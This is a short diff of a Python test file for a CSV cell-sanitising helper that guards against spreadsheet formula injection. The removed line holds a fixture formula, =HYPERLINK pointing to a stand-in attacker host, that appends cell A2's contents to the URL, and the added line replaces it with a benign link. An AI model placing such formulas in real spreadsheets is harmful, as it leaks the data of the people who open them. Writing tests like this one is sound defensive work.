@@ -14,7 +14,7 @@ from tests.imports.files import table_bytes
 from yanxiu.core.csvsafe import safe_cell
 from yanxiu.imports.tables import read_table
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点我")'
+HYPERLINK = '=HYPERLINK("http://x.cn","点我")'  # a teacher's name holds 32 characters
 
 
 def csv_cells(content: bytes) -> list[str]:
